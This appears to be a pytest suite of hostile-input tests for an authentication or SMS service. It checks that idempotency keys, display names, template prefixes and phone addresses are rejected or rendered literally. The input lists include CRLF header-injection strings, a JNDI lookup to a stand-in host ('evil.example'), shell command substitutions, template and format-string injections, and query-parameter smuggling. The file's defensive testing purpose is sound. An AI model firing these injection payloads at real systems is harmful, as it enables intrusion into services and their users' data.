"""Keys, templates and addresses: what a caller sends is data, never a header, a placeholder or a format."""

import re

import pytest

from tests.hostile.conftest import NUMBER, repeatable

NO_KEYS = [
    "", " ", '""', '"', "a b", "a\tb", "\x7f", "é", "a\u0000", "x" * 256, "x" * 9000, '"a"b"', "a\r\nX-Evil: 1", "\xff\xfe", "a\xadb",
]  # fmt: skip


@pytest.mark.parametrize("key", NO_KEYS, ids=lambda key: ascii(key)[:30])
@repeatable
def test_a_bad_idempotency_key_is_400(ask, operation, key):
    answer = ask(operation, headers=[("Idempotency-Key", key)])

    assert answer.code == "400"
    assert not any("Evil" in value for value in answer.headers.values())


@repeatable
def test_a_key_has_up_to_255_characters_and_its_header_any_case(ask, operation):
    for header in ("idempotency-key", "IDEMPOTENCY-KEY"):
        answer = ask(operation, headers=[(header, "x" * 255)])

    assert answer.headers["idempotent-replayed"] == "true"


PLACEHOLDERS = [
    "$code", "${code}", "$$code", "$", "$$", "${", "${}", "$0", "$code $code", "$display_name", "${display_name}", "$validity_minutes", "%s", "%(code)s",
    "{code}", "{0}", "{}", "{0.__class__}", "{{code}}", "{% raw %}", "<%= code %>", "#{code}", "\\1", "\\g<0>", "${jndi:ldap://evil.example}", "`id`",
    "$(id)", "a\u200e", "e\u0301",
]  # fmt: skip


@pytest.mark.parametrize("text", PLACEHOLDERS)
def test_a_name_and_a_prefix_stand_in_the_message_as_they_are(service, text):
    prefix = text if text.isascii() and len(text) <= 10 else ""
    fields = {"auth_token_prefix": prefix, "associate_template": "<$display_name> $code"}
    path = f"/applications/{service.application('Club', **fields)}/users/bob/associate"

    service.json("POST", path, {"address": NUMBER, "display_name": text})

    assert re.fullmatch(re.escape(f"<{text}> {prefix}") + r"\d{6}", service.messages[-1])


ADDRESSES = [
    "+", "1", "+12015550123;ext=1", "+12015550123,1", "+12015550123 x1", "\u202e+12015550123",
    "+" + "1" * 5000, "+0012015550123", "0012015550123", "+1911", "+120155501234", "+999999999999", "+1201555O123",
    "+800123456789", "arn:aws:sns:us-east-1:123456789012:topic", "+1\u0661\u0662\u0660\u0661", "+12015550123&To=+12015550199", "$code",
    "+12015550123\r\nX-Evil: 1", "+12015550123,+12015550199",
]  # fmt: skip


@pytest.mark.parametrize("address", ADDRESSES, ids=lambda each: ascii(each)[:30])
def test_what_is_no_number_is_400_and_not_repeated(service, shop, address):
    answer = service.json("POST", f"/applications/{shop}/users/bob/associate", {"address": address})

    assert answer.code == "400"
    assert len(address) < 8 or address not in answer.json["error_description"]
    assert service.messages == []
